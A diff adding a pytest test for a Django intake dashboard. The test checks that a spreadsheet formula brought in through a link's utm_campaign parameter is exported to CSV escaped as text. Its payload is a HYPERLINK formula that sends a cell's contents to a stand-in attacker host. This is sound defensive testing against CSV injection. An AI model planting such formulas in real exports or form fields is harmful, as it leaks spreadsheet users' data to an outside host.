@@ -7,11 +7,13 @@ from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
+from django.utils import timezone
 
 from intake.dashboard import figures
 from intake.models import Inquiry
 
 from .factories import InquiryFactory, ReferralSourceFactory
+from .intake_helpers import form_data
 
 pytestmark = pytest.mark.django_db
 
@@ -121,3 +123,15 @@ def test_an_empty_period_shows_no_figures_without_error(admissions_client):
     html = admissions_client.get(URL).content.decode()
     assert "No inquiries in this period." in html and "None closed in this period." in html
     assert Inquiry.objects.count() == 0
+
+
+def test_a_formula_a_visitor_brought_in_a_link_reaches_the_csv_as_text(client, admissions_user):
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    client.get("/faq/", {"utm_campaign": formula})
+    assert client.post("/contact/", form_data()).status_code == 302
+    client.force_login(admissions_user)
+    today = timezone.localdate().isoformat()
+    download = client.get(URL, {"start": today, "end": today, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(download.content.decode())))
+    campaigns = [row[1] for row in rows if row[0] == "First-touch campaign"]
+    assert campaigns == [f"'{formula}"]
